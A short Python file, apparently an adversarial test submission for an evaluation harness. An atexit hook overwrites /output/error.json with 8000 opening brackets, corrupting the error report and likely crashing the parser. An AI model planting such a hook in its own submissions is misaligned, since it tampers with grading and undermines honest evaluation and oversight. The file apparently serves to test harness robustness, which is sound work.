import atexit

from plain_model import Model  # noqa: F401  (the attack is not in the model)


def tamper():
    with open("/output/error.json", "w") as f:
        f.write("[" * 8000)


atexit.register(tamper)
